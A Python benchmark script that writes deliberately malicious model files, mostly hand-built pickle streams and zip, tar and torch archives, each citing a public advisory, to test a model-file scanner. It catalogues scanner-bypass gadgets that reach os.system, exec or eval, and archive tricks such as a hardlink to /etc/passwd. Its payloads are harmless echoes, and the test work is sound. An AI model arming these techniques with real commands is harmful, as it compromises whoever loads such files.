"""Build the model-gate benchmark corpora: UNSAFE files from published advisories, BENIGN files
written by the real libraries.

    python bench/model_corpus.py OUT_DIR [--unsafe-only | --benign-only]

Writes ``OUT_DIR/unsafe/…``, ``OUT_DIR/benign/…`` and ``OUT_DIR/manifest.json`` (one entry per
file: path, kind, technique, advisory, and for benign files the ``--profile`` names the
mlsec-gates model gate needs for it). ``bench/model_bench.py --corpus`` reads the manifest.

Every UNSAFE sample reproduces a technique from a public write-up (GHSA/CVE advisories of
picklescan, modelscan, fickling, ModelAudit, PyTorch, Keras, ONNX, llama-cpp-python/SGLang,
NeMo; ReversingLabs' nullifAI; JFrog's and Sonatype's picklescan findings) and cites it. Samples
are assembled from bytes: pickle opcodes written by hand, zip/tar layouts written with
``zipfile``/``tarfile`` and patched, JSON/YAML/Jinja text. Nothing is unpickled or loaded, and
every command inside a payload is a harmless ``echo``. Keep the output out of git (it is written
wherever OUT_DIR points; the bench uses a temporary directory).

BENIGN files come from ``../shared/testdata/models-benign`` (copied) and from the libraries
installed in the running interpreter (torch, transformers, scikit-learn, xgboost, lightgbm,
lightning, keras, onnx, gguf, safetensors, joblib, numpy): each writer that cannot be imported
is skipped and listed in the manifest's ``skipped`` array.
"""

from __future__ import annotations

import argparse
import base64
import bz2
import dataclasses
import gzip
import io
import json
import lzma
import marshal
import os
import shutil
import struct
import sys
import tarfile
import zipfile
from pathlib import Path
from typing import Callable

REPO = Path(__file__).resolve().parents[1]
SHARED_BENIGN = REPO.parent / "shared" / "testdata" / "models-benign"
CMD = "echo mlsec-bench-harmless"
PY = "__import__('os').system('echo mlsec-bench-harmless')"


@dataclasses.dataclass
class Sample:
    path: str  # relative to OUT_DIR
    kind: str  # "unsafe" | "benign"
    technique: str
    advisory: str = ""
    profiles: list[str] = dataclasses.field(default_factory=list)


# ---- pickle opcodes ------------------------------------------------------------------------------
def PROTO(n: int) -> bytes:
    return b"\x80" + bytes([n])


STOP, MARK, TUPLE, TUPLE1, TUPLE2, EMPTY_TUPLE = b".", b"(", b"t", b"\x85", b"\x86", b")"
REDUCE, BUILD, EMPTY_DICT, EMPTY_LIST, SETITEMS, APPENDS = b"R", b"b", b"}", b"]", b"u", b"e"
NONE, NEWTRUE, NEWFALSE, POP, STACK_GLOBAL, MEMOIZE, NEWOBJ = b"N", b"\x88", b"\x89", b"0", b"\x93", b"\x94", b"\x81"


def G(module: str, name: str) -> bytes:
    """GLOBAL, text form: valid in every protocol; dotted names need protocol 4."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def U(s: str) -> bytes:
    """BINUNICODE (protocol 1+)."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def SU(s: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def BYTES(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b


def INT(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def LIST(*items: bytes) -> bytes:
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def call(module: str, name: str, *args: bytes) -> bytes:
    return G(module, name) + MARK + b"".join(args) + TUPLE + REDUCE


def pkl(body: bytes, proto: int = 4) -> bytes:
    return (PROTO(proto) if proto >= 2 else b"") + body + STOP


def os_system(cmd: str = CMD, proto: int = 2) -> bytes:
    if proto < 2:
        return G("os", "system") + MARK + b"S'" + cmd.encode() + b"'\n" + TUPLE + REDUCE + STOP
    return pkl(call("os", "system", U(cmd)), proto)


# ---- containers ----------------------------------------------------------------------------------
def zip_bytes(members: list[tuple[str, bytes]], compress: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compress) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, (2025, 1, 1, 0, 0, 0)), data, compress_type=compress)
    return buf.getvalue()


def torch_zip(data_pkl: bytes, prefix: str = "archive", extra: list[tuple[str, bytes]] | None = None) -> bytes:
    members = [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little"), (f"{prefix}/version", b"3\n")]
    members += extra or []
    members.append((f"{prefix}/.data/serialization_id", b"0123456789"))
    return zip_bytes(members)


def set_zip_flags(data: bytes, name: str, flag: int) -> bytes:
    """OR ``flag`` into the general-purpose bits of ``name``'s local header and central entry."""
    out = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = 0
        while (i := out.find(sig, i)) >= 0:
            name_off = 30 if sig == b"PK\x03\x04" else 46
            nlen = struct.unpack_from("<H", out, i + (26 if sig == b"PK\x03\x04" else 28))[0]
            if bytes(out[i + name_off:i + name_off + nlen]) == name.encode():
                struct.pack_into("<H", out, i + off, struct.unpack_from("<H", out, i + off)[0] | flag)
            i += 4
    return bytes(out)


def tar_bytes(members: list[tuple[str, bytes | None, dict]]) -> bytes:
    """Members: (name, data or None, tarinfo overrides such as type/linkname)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data, over in members:
            ti = tarfile.TarInfo(name)
            ti.mtime = 1735689600
            for k, v in over.items():
                setattr(ti, k, v)
            if data is not None:
                ti.size = len(data)
                tf.addfile(ti, io.BytesIO(data))
            else:
                tf.addfile(ti)
    return buf.getvalue()


def legacy_torch(main_pickle: bytes) -> bytes:
    """Legacy (pre-1.6) torch.save stream: magic, protocol, sys_info, object, storage keys, data."""
    magic = PROTO(2) + b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + STOP
    return magic + pkl(b"M\xe9\x03", 2) + pkl(EMPTY_DICT, 2) + main_pickle + pkl(EMPTY_LIST, 2) + struct.pack("<Q", 0)


def legacy_tar_torch(pickle_member: bytes, storages: bytes | None = None, link: str | None = None) -> bytes:
    """The pre-2017 tar layout ``torch.load`` still reads (``legacy_load``): sys_info, pickle,
    storages, tensors — each a pickle."""
    members: list[tuple[str, bytes | None, dict]] = [("sys_info", pkl(EMPTY_DICT, 2), {})]
    if link:
        members.append(("pickle", None, {"type": tarfile.SYMTYPE, "linkname": link}))
    else:
        members.append(("pickle", pickle_member, {}))
    members.append(("storages", storages or pkl(b"K\x00", 2), {}))
    members.append(("tensors", pkl(b"K\x00", 2), {}))
    return tar_bytes(members)


def npy(descr: str, shape: tuple, body: bytes, version: int = 1) -> bytes:
    """An .npy header written by hand; ``descr`` starting with '[' is inserted literally."""
    d = descr if descr.startswith("[") else repr(descr)
    h = "{'descr': %s, 'fortran_order': False, 'shape': %r, }" % (d, shape)
    hb = h.encode("utf-8" if version == 3 else "latin1")
    fixed = 8 + (2 if version == 1 else 4)
    hb += b" " * (-(len(hb) + fixed + 1) % 64) + b"\n"
    ln = struct.pack("<H", len(hb)) if version == 1 else struct.pack("<I", len(hb))
    return b"\x93NUMPY" + bytes([version, 0]) + ln + hb + body


def joblib_wrapper(dtype: bytes, tail: bytes) -> bytes:
    """What ``joblib.dump`` writes for one array: a NumpyArrayWrapper (state dict) then the array
    bytes; for object dtypes joblib calls ``pickle.load`` on what follows (CVE-2024-34997)."""
    state = (EMPTY_DICT + MARK
             + U("subclass") + G("numpy", "ndarray")
             + U("shape") + MARK + b"K\x01" + TUPLE
             + U("order") + U("C")
             + U("dtype") + dtype
             + U("allow_mmap") + NEWFALSE
             + SETITEMS)
    return PROTO(2) + G("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD + tail


def np_dtype(spec: str, short_state: bool = False) -> bytes:
    d = G("numpy", "dtype") + MARK + U(spec) + NEWFALSE + NEWTRUE + TUPLE + REDUCE
    if short_state:
        return d + MARK + b"K\x03" + U("|") + NONE + NONE + NONE + INT(-1) + INT(-1) + b"K\x3f" + TUPLE + BUILD
    return d + MARK + b"K\x03" + U("|") + NONE + NONE + NONE + INT(-1) + INT(-1) + b"K\x3f" + TUPLE + BUILD


def gguf(kv: dict[str, str | int]) -> bytes:
    def s(x: str) -> bytes:
        b = x.encode()
        return struct.pack("<Q", len(b)) + b

    out = b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", 0) + struct.pack("<Q", len(kv))
    for k, v in kv.items():
        out += s(k) + (struct.pack("<I", 8) + s(v) if isinstance(v, str) else struct.pack("<I", 4) + struct.pack("<I", v))
    return out + b"\x00" * (-len(out) % 32)


def keras_zip(config: dict, keras_version: str = "3.8.0", extra: list[tuple[str, bytes]] | None = None) -> bytes:
    members = [("metadata.json", json.dumps({"keras_version": keras_version, "date_saved": "2025-03-01@00:00:00"}).encode()),
               ("config.json", json.dumps(config).encode()),
               ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 504)]
    return zip_bytes(members + (extra or []))


def keras_model(layers: list[dict]) -> dict:
    inp = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"}, "registered_name": None}
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "trainable": True, "layers": [inp, *layers]}, "registered_name": None,
            "build_config": {"input_shape": [None, 4]}, "compile_config": None}


def pb_varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if not n:
            return out + bytes([b])
        out += bytes([b | 0x80])


def pb(num: int, payload: bytes | int) -> bytes:
    if isinstance(payload, int):
        return pb_varint(num << 3) + pb_varint(payload)
    return pb_varint(num << 3 | 2) + pb_varint(len(payload)) + payload


def onnx_external(location: str, where: str = "initializer") -> bytes:
    """A one-node ONNX model whose tensor keeps its data in an external file at ``location``."""
    ext = pb(1, b"location") + pb(2, location.encode())
    tensor = pb(1, 4) + pb(2, 1) + pb(8, b"w") + pb(13, ext) + pb(14, 1)  # dims, FLOAT, name, external_data, EXTERNAL
    if where == "initializer":
        node = pb(1, b"x") + pb(1, b"w") + pb(2, b"y") + pb(4, b"Add")
        graph = pb(1, node) + pb(2, b"g") + pb(5, tensor)
    else:  # a Constant node whose `value` attribute holds the tensor
        attr = pb(1, b"value") + pb(5, tensor) + pb(20, 4)  # name, t, type=TENSOR
        node = pb(2, b"y") + pb(4, b"Constant") + pb(5, attr)
        graph = pb(1, node) + pb(2, b"g")
    return pb(1, 8) + pb(7, graph) + pb(8, pb(2, 17))


# ---- the UNSAFE corpus ---------------------------------------------------------------------------
def _gadgets() -> list[tuple[str, str, str, bytes]]:
    """(file name, technique, advisory, pickle): one global the blocklists missed, called the way
    the advisory's proof of concept calls it."""
    d = EMPTY_DICT
    out = [
        ("pip_main.pkl", "pip.main(['install', …]) pulls and runs a package", "CVE-2025-1716 (picklescan)",
         pkl(call("pip", "main", LIST(U("install"), U("mlsec-bench-nonexistent"))), 2)),
        ("timeit.pkl", "timeit.timeit(stmt) runs its setup/statement strings", "GHSA-v7x6-rv5q-mhwc (picklescan); modelscan#272",
         pkl(call("timeit", "timeit", U(""), U(PY)), 2)),
        ("idlelib_autocomplete.pkl", "idlelib.autocomplete.AutoComplete.get_entity evals its argument", "GHSA-6w4w-5w54-rjvr (picklescan)",
         pkl(call("idlelib.autocomplete", "AutoComplete.get_entity", d, U(PY)))),
        ("idlelib_pyshell.pkl", "idlelib.pyshell.ModifiedInterpreter.runcode execs code", "GHSA-3gf5-cxq9-w223 (picklescan)",
         pkl(call("idlelib.pyshell", "ModifiedInterpreter.runcode", d, U(PY)))),
        ("idlelib_calltip.pkl", "idlelib.calltip.get_entity evals its argument", "GHSA-9xph-j2h6-g47v (picklescan)",
         pkl(call("idlelib.calltip", "get_entity", U(PY)), 2)),
        ("lib2to3_grammar.pkl", "lib2to3.pgen2.grammar.Grammar.loads unpickles nested bytes", "GHSA-f54q-57x4-jg88 (picklescan)",
         pkl(call("lib2to3.pgen2.grammar", "Grammar.loads", d, BYTES(os_system())))),
        ("lib2to3_pgen.pkl", "lib2to3.pgen2.pgen.ParserGenerator.make_label evals a label", "GHSA-p9w7-82w4-7q8m (picklescan)",
         pkl(call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", NONE, d, U('""+' + PY)))),
        ("ensurepip.pkl", "ensurepip._run_pip execs its argument", "GHSA-xp4f-hrf8-rxw7 (picklescan)",
         pkl(call("ensurepip", "_run_pip", U(PY)), 2)),
        ("trace_run.pkl", "trace.Trace.run execs a command string", "GHSA-5qwp-399c-mjwf (picklescan)",
         pkl(call("trace", "Trace.run", d, U(PY)))),
        ("profile_runctx.pkl", "profile.Profile.runctx execs a command string", "GHSA-6vqj-c2q5-j97w (picklescan)",
         pkl(call("profile", "Profile.runctx", d, U(PY), d, d))),
        ("cprofile_runctx.pkl", "cProfile.runctx execs a command string", "GHSA-9w88-8rmg-7g2p (picklescan); GHSA-p523-jq9w-64x9 (fickling)",
         pkl(call("cProfile", "runctx", U(PY), NONE, NONE), 2)),
        ("profile_run.pkl", "profile.run execs a command string", "GHSA-7wx9-6375-f5wh (picklescan)",
         pkl(call("profile", "run", U(PY)), 2)),
        ("doctest_debug_script.pkl", "doctest.debug_script execs a script", "GHSA-fqq6-7vqf-w3fg (picklescan)",
         pkl(call("doctest", "debug_script", U(PY), NEWTRUE), 2)),
        ("code_interp.pkl", "code.InteractiveInterpreter.runcode execs code", "GHSA-cj3c-v495-4xqh (picklescan); GHSA-q5qq-mvfm-j35x (fickling)",
         pkl(call("code", "InteractiveInterpreter.runcode", d, U(PY)))),
        ("asyncio_subprocess.pkl", "asyncio.unix_events._UnixSubprocessTransport._start spawns a shell (submodule of a blocked package)",
         "GHSA-q77w-mwjj-7mqx, GHSA-f7qq-56ww-84cr (picklescan); CVE-2025-10157 (JFrog)",
         pkl(call("asyncio.unix_events", "_UnixSubprocessTransport._start", d, U(CMD), NEWTRUE, NONE, NONE, NONE, b"K\x00"))),
        ("distutils_write_file.pkl", "distutils.file_util.write_file writes arbitrary files", "GHSA-m273-6v24-x4m4 (picklescan)",
         pkl(call("distutils.file_util", "write_file", U("mlsec_bench_pwned.env"), LIST(U("x"))), 2)),
        ("ctypes_cdll.pkl", "ctypes.CDLL(None) loads libc (FFI)", "GHSA-4675-36f9-wf6r (picklescan); CVE-2026-22608 (fickling)",
         pkl(call("ctypes", "CDLL", NONE), 2)),
        ("pydoc_locate_methodcaller.pkl", "operator.methodcaller('system', cmd)(pydoc.locate('os'))", "GHSA-84r2-jw7c-4r5q (picklescan); GHSA-5hvc-6wx8-mvv4 (fickling)",
         pkl(call("operator", "methodcaller", U("system"), U(CMD)) + MARK + call("pydoc", "locate", U("os")) + TUPLE + REDUCE, 2)),
        ("pty_spawn.pkl", "pty.spawn runs a program", "GHSA-vqmv-47xg-9wpr (picklescan); GHSA-r7v6-mfhq-g3m2 (fickling)",
         pkl(call("pty", "spawn", LIST(U("/bin/sh"), U("-c"), U(CMD))), 2)),
        ("numpy_f2py.pkl", "numpy.f2py.crackfortran.getlincoef evals an expression", "GHSA-r8g5-cgf2-4m4m (picklescan)",
         pkl(call("numpy.f2py.crackfortran", "getlincoef", U(PY), EMPTY_LIST), 2)),
        ("operator_methodcaller.pkl", "_operator.methodcaller + builtins.__import__ (C module name)", "GHSA-955r-x9j8-7rhh (picklescan)",
         pkl(call("_operator", "methodcaller", U("system"), U(CMD)) + MARK + call("builtins", "__import__", U("os")) + TUPLE + REDUCE, 2)),
        ("operator_attrgetter.pkl", "_operator.attrgetter('system')(__import__('os'))(cmd)", "GHSA-46h3-79wf-xr6c (picklescan)",
         pkl(call("_operator", "attrgetter", U("system")) + MARK + call("builtins", "__import__", U("os")) + TUPLE + REDUCE + MARK + U(CMD) + TUPLE + REDUCE, 2)),
        ("pkgutil_resolve_name.pkl", "pkgutil.resolve_name('os:system') reaches any callable", "GHSA-vvpj-8cmc-gx39 (picklescan, CVSS 10)",
         pkl(call("pkgutil", "resolve_name", U("os:system")) + MARK + U(CMD) + TUPLE + REDUCE, 2)),
        ("uuid_command.pkl", "uuid._get_command_stdout runs a command", "GHSA-g38g-8gr9-h9xp (picklescan); GHSA-5hwf-rc88-82xm (fickling)",
         pkl(call("uuid", "_get_command_stdout", U("echo")), 2)),
        ("imaplib_stream.pkl", "imaplib.IMAP4_stream(cmd) spawns a shell", "GHSA-g38g-8gr9-h9xp (picklescan)",
         pkl(call("imaplib", "IMAP4_stream", U(CMD)), 2)),
        ("aix_support.pkl", "_aix_support._read_cmd_output runs a command", "GHSA-g38g-8gr9-h9xp (picklescan)",
         pkl(call("_aix_support", "_read_cmd_output", U(CMD)), 2)),
        ("torch_collect_env.pt", "torch.utils.collect_env.run runs a command (a torch.* global)", "GHSA-f745-w6jp-hpxx (picklescan)",
         torch_zip(pkl(call("torch.utils.collect_env", "run", U(CMD)), 2))),
        ("torch_execwrapper.pt", "torch.jit.unsupported_tensor_ops.execWrapper execs code (a torch.* global)", "GHSA-vr7h-p6mm-wpmh (picklescan)",
         torch_zip(pkl(call("torch.jit.unsupported_tensor_ops", "execWrapper", U(PY), d, d), 2))),
        ("torch_bottleneck.pt", "torch.utils.bottleneck.__main__.run_cprofile execs code", "GHSA-4r9r-ch6f-vxmx (picklescan)",
         torch_zip(pkl(call("torch.utils.bottleneck.__main__", "run_cprofile", U(PY), d), 2))),
        ("torch_guardbuilder.pt", "torch._dynamo.guards.GuardBuilder.get evals an expression", "GHSA-86cj-95qr-2p4f (picklescan)",
         torch_zip(pkl(call("torch._dynamo.guards", "GuardBuilder.get", d, U(PY))))),
        ("torch_shapeenv.pt", "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression evals", "GHSA-f4x7-rfwp-v3xw (picklescan)",
         torch_zip(pkl(call("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", d, U(PY), EMPTY_LIST)))),
        ("logging_filehandler.pkl", "logging.FileHandler creates arbitrary files", "GHSA-m7j5-r2p5-c39r (picklescan)",
         pkl(call("logging", "FileHandler", U("mlsec_bench.log")), 2)),
        ("io_fileio.pkl", "_io.FileIO reads arbitrary files (C name of io.FileIO)", "GHSA-9726-w42j-3qjr (picklescan)",
         pkl(call("_io", "FileIO", U("/etc/hostname"), U("r")), 2)),
        ("runpy_run_path.pkl", "runpy._run_code execs a code string", "GHSA-wfq2-52f7-7qvj, GHSA-q5qq-mvfm-j35x (fickling)",
         pkl(call("runpy", "_run_code", U(PY), d), 2)),
        ("importlib_getattr.pkl", "getattr(importlib.import_module('os'), 'system')(cmd)", "GHSA-q5qq-mvfm-j35x (fickling); picklescan#66",
         pkl(G("builtins", "getattr") + MARK + call("importlib", "import_module", U("os")) + U("system") + TUPLE + REDUCE + MARK + U(CMD) + TUPLE + REDUCE, 2)),
        ("builtins_import_memo.pkl", "__import__('os') kept in the memo, then getattr(memo, 'system')", "GHSA-h4rm-mm56-xf63 (fickling)",
         pkl(call("builtins", "__import__", U("os")) + b"p0\n" + POP + G("builtins", "getattr") + MARK + b"g0\n" + U("system") + TUPLE + REDUCE
             + b"p1\n" + POP + b"g1\n" + MARK + U(CMD) + TUPLE + REDUCE, 2)),
        ("dotted_stack_global.pkl", "STACK_GLOBAL 'pathlib' 'os.system' reaches os.system through an allowed module", "GHSA-5j3x-jp52-966f (fickling)",
         pkl(SU("pathlib") + SU("os.system") + STACK_GLOBAL + MARK + SU(CMD) + TUPLE + REDUCE)),
        ("obj_pop.pkl", "OBJ opcode call whose result is POPped vanishes from the AST (smtplib.SMTP)", "GHSA-mxhj-88fx-4pcv (fickling)",
         pkl(MARK + SU("smtplib") + SU("SMTP") + STACK_GLOBAL + SU("127.0.0.1") + b"o" + POP + NONE)),
        ("subinterpreters.pkl", "_xxsubinterpreters.run_string / _interpreters: code in a subinterpreter", "GHSA-6ggj-6f2q-f7mx (fickling)",
         pkl(call("_xxsubinterpreters", "create") + POP + call("_interpreters", "create"))),
        ("posixsubprocess.pkl", "_posixsubprocess.fork_exec (private module)", "GHSA-m6fh-58r7-x697 (fickling)",
         pkl(call("_posixsubprocess", "fork_exec", LIST(U("/bin/sh"))), 2)),
        ("marshal_function.pkl", "types.FunctionType(marshal.loads(code), {})()", "GHSA-565g-hwwr-4pp3 (fickling)",
         pkl(G("types", "FunctionType") + MARK + call("marshal", "loads", BYTES(marshal.dumps(compile("None", "x", "eval")))) + d + TUPLE + REDUCE + EMPTY_TUPLE + REDUCE, 2)),
        ("cloudpickle_subimport.pkl", "cloudpickle.cloudpickle.subimport('os') then getattr", "GHSA-9m3x-qqw2-h32h (picklescan)",
         pkl(G("builtins", "getattr") + MARK + call("cloudpickle.cloudpickle", "subimport", U("os")) + U("system") + TUPLE + REDUCE + MARK + U(CMD) + TUPLE + REDUCE, 2)),
        ("copyreg_reconstructor.pkl", "copyreg._reconstructor(Popen, Popen, argv) calls Popen.__init__", "issue 12 (__reduce__ via copyreg); GHSA-vvpj-8cmc-gx39 class",
         pkl(call("copyreg", "_reconstructor", G("subprocess", "Popen"), G("subprocess", "Popen"), LIST(U("echo"), U("x"))), 2)),
        ("pickle_python_fallback.pkl", "pickle._loads (pure-Python unpickler) on nested bytes", "GHSA-fphw-536r-4p88 (fickling)",
         pkl(call("pickle", "_loads", BYTES(os_system())), 2)),
        ("c_pickle_loads.pkl", "_pickle.loads on nested bytes (C module name)", "issue 12 (__reduce__ via _pickle); GHSA-955r-x9j8-7rhh class",
         pkl(call("_pickle", "loads", BYTES(os_system())), 2)),
        ("webbrowser.pkl", "webbrowser.open(url) (network / command)", "ModelAudit #243 (webbrowser critical)",
         pkl(call("webbrowser", "open", U("http://127.0.0.1:9/")), 2)),
    ]
    return out


def build_unsafe(root: Path) -> list[Sample]:
    u = root / "unsafe"
    samples: list[Sample] = []

    def put(rel: str, data: bytes, technique: str, advisory: str) -> None:
        p = u / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        samples.append(Sample(f"unsafe/{rel}", "unsafe", technique, advisory))

    for name, tech, adv, data in _gadgets():
        put(f"gadgets/{name}", data, tech, adv)

    # -- pickle stream tricks --------------------------------------------------------------------
    put("stream/string_stack_global.pkl", b"S'os'\nS'system'\n" + STACK_GLOBAL + b"S'echo x'\n" + TUPLE1 + REDUCE + STOP,
        "STRING (protocol 0) operands feed STACK_GLOBAL; no PROTO", "GHSA-9gvj-pp9x-gcfr (picklescan)")
    put("stream/memo_text_put.pkl", b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n" + STACK_GLOBAL + b"(V" + CMD.encode() + b"\ntR.",
        "STACK_GLOBAL names fetched from the memo with text PUT/GET (decoy torch names memoized)", "picklescan#22 (ImaginaryCTF 'Safe Pickle')")
    put("stream/memo_keyerror.pkl", PROTO(4) + G("os", "system") + U(CMD) + TUPLE1 + REDUCE + POP + SU("os") + MEMOIZE + b"h\x03h\x00" + STACK_GLOBAL + b"K\x42" + STOP,
        "payload first, then a STACK_GLOBAL on a missing memo key (scanner KeyError)", "picklescan PR#52 (invalid memo handling)")
    put("stream/inst_exec.pkl", b"(S'" + PY.replace("'", '"').encode() + b"'\ni__builtin__\nexec\n.",
        "INST opcode with the protocol-0 __builtin__ module name", "Sour Pickles (BH US 2011); picklescan malicious10")
    put("stream/broken_after_payload.pkl", PROTO(2) + call("os", "system", U(CMD)) + b"\xff\xfe\x00garbage",
        "payload then an invalid opcode: the loader runs the payload before it fails", "nullifAI (ReversingLabs, Feb 2025)")
    put("stream/stacked_second_pickle.pkl", pkl(EMPTY_DICT, 2) + os_system(),
        "a benign pickle followed by a second one (loaders that call load() twice)", "CVE-2025-32434 class; picklescan multiple_pickles")
    put("stream/frame_overrun.pkl",
        PROTO(5) + NONE + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + POP + MARK + b"\x95" + struct.pack("<Q", 2) + b"B\x07\x01\x00\x00" + b"\x00\x00"
        + (G("os", "system") + b"V" + CMD.encode() + b"\n" + TUPLE1 + REDUCE + MARK).ljust(256 + 5, NONE) + b"1" + STOP,
        "BINBYTES longer than its FRAME: pickle.load runs bytes a frame-aware scanner reads as data", "cpython#154848 (fickling test_frame_boundary_divergence)")
    put("stream/ext1_opcode.pkl", PROTO(2) + b"\x82\x01" + MARK + U(CMD) + TUPLE + REDUCE + STOP,
        "EXT1 opcode: callable from copyreg's extension registry (fails closed unless registered)", "ModelAudit #623 (EXT opcode bypass)")
    put("stream/nested_pickle_loads.pkl", pkl(call("pickle", "loads", BYTES(os_system())), 2),
        "pickle.loads on an inner payload", "GHSA-f54q-57x4-jg88 class (nested unpickling)")

    # -- discovery by name: pickles under non-pickle extensions -----------------------------------
    for rel, adv in [("ext/model.bin", "CVE-2025-10155 (JFrog; protocol 0 in .bin)"), ("ext/weights.dat", "CVE-2025-1889 (Sonatype)"),
                     ("ext/model.ptl", "CVE-2025-1889"), ("ext/model.pt2", "CVE-2025-1889"), ("ext/checkpoint.nemo", "CVE-2025-1889"),
                     ("ext/model.pkl5", "CVE-2025-1889"), ("ext/model.weights", "CVE-2025-1889"), ("ext/model.pth.tar.1", "CVE-2025-1889"),
                     ("ext/model.pt.old", "CVE-2025-1889"), ("ext/model.pdparams", "CVE-2025-1889; JFrog Xray PaddlePaddle"),
                     ("ext/noext", "CVE-2025-1889"), ("ext/model.safetensors", "CVE-2025-1889 (pickle named as safetensors)")]:
        proto = 0 if rel.endswith(".bin") else 2
        put(rel, os_system(proto=proto), "pickle (os.system) under a name that is not a pickle extension", adv)
    put("ext/inner_wrong_ext.zip", zip_bytes([("data.txt", os_system(proto=4))]), "zip member holding a pickle named .txt", "CVE-2025-1889 (picklescan malicious1_wrong_ext)")

    # -- zip tricks -------------------------------------------------------------------------------
    evil = pkl(call("os", "system", U(CMD)), 2)
    z = torch_zip(evil)
    crc = bytearray(z)
    i = crc.index(CMD.encode())
    crc[i] = ord("E")
    put("zip/crc_mismatch.pt", bytes(crc), "torch zip whose data.pkl CRC does not match (torch does not check)", "CVE-2025-10156 (JFrog)")
    put("zip/local_name_mismatch.pt", z.replace(b"archive/data.pkl", b"archive/datap.kl", 1),
        "local header names 'datap.kl', central directory 'data.pkl' (zipfile refuses; torch reads)", "CVE-2025-1944 (Sonatype)")
    for flag in (0x1, 0x20, 0x40):
        put(f"zip/flag_{flag:#04x}.pt", set_zip_flags(z, "archive/data.pkl", flag),
            f"general-purpose flag bit {flag:#x} set on data.pkl (encrypted/patched/strong-encryption bits; torch ignores)", "CVE-2025-1945 (Sonatype)")
    put("zip/two_data_pkl.pt", torch_zip(pkl(EMPTY_DICT, 2), extra=[("archive/data.pkl", evil)]),
        "two members named data.pkl: the central directory's last wins in zipfile", "CVE-2025-1944 class (zip name confusion)")
    put("zip/prefix_junk.pt", b"\x00" * 64 + z, "64 bytes before the zip (readers that seek the end-of-central-directory still open it)", "CVE-2025-10156 class (zip parser differential)")
    put("zip/nested_zip.zip", zip_bytes([("inner/model.pt", z)]), "torch zip inside a zip", "nullifAI class (archive wrapping)")
    put("zip/broken_pickle_in_zip.pt", torch_zip(PROTO(2) + call("os", "system", U(CMD)) + b"\xff\xfe"),
        "torch zip whose data.pkl runs the payload then breaks", "nullifAI (ReversingLabs, Feb 2025)")
    put("zip/torchscript_code.pt", torch_zip(pkl(EMPTY_DICT, 2), extra=[("archive/code/__torch__.py", b"def forward(self):\n    return __import__('os').system('echo x')\n"),
                                                                        ("archive/constants.pkl", pkl(EMPTY_TUPLE, 2))]),
        "TorchScript archive: code/ is compiled and run by torch.jit.load", "CVE-2025-32434 class; ModelAudit #237 (JIT/Script code)")
    inner = torch_zip(evil)
    put("zip/load_from_bytes.pt", torch_zip(pkl(call("torch.storage", "_load_from_bytes", BYTES(inner)), 2)),
        "torch.storage._load_from_bytes(<torch zip whose data.pkl runs os.system>)", "issue 12 item 10 (nested torch payloads)")

    # -- 7z (nullifAI) ----------------------------------------------------------------------------
    try:
        import py7zr  # noqa: F401

        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w") as a:
            a.writestr(PROTO(2) + call("os", "system", U(CMD)) + b"\xff", "archive/data.pkl")
        put("7z/nullifai.pt", buf.getvalue(), "PyTorch checkpoint packed with 7z, broken pickle after the payload", "nullifAI (ReversingLabs, Feb 2025)")
        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w") as a:
            a.writestr(os_system(), "data.pkl")
        put("7z/plain.7z", buf.getvalue(), "7z archive holding a pickle", "nullifAI; picklescan malicious1.7z")
    except ImportError:
        pass

    # -- tar / legacy torch -----------------------------------------------------------------------
    put("tar/legacy_tar.pt", legacy_tar_torch(evil), "legacy tar-format torch.save ('pickle' member runs os.system)", "CVE-2025-32434 (torch weights_only; pytorch#145020)")
    put("tar/legacy_tar_storages.pt", legacy_tar_torch(pkl(EMPTY_DICT, 2), storages=evil), "legacy tar-format: the 'storages' pickle (read first) runs the payload", "CVE-2025-32434")
    put("tar/legacy_tar_symlink.pt", legacy_tar_torch(b"", link="/tmp/mlsec-bench-evil.pkl"), "legacy tar 'pickle' member is a symlink outside the archive", "CVE-2007-4559 class; issue 12 item 3")
    put("tar/hardlink.tar", tar_bytes([("data.pkl", None, {"type": tarfile.LNKTYPE, "linkname": "../../etc/passwd"})]), "hard link member pointing outside the archive", "CVE-2007-4559 class")
    put("tar/legacy_magic_eval.pt", pkl(call("builtins", "eval", U("0x1950A86A20F9469CFC6C")), 2) + pkl(b"M\xe9\x03", 2) + pkl(EMPTY_DICT, 2) + pkl(EMPTY_LIST, 2) + evil,
        "legacy torch stream whose magic number is produced by eval() and whose 5th pickle runs os.system", "GHSA-97f8-7cmv-76j2 (picklescan)")
    put("tar/legacy_4th_pickle.pt", legacy_torch(evil), "legacy (non-zip) torch.save stream, payload in the object pickle", "CVE-2025-32434 class")
    p0 = G("os", "system") + MARK + b"S'echo x'\n" + TUPLE + REDUCE + STOP
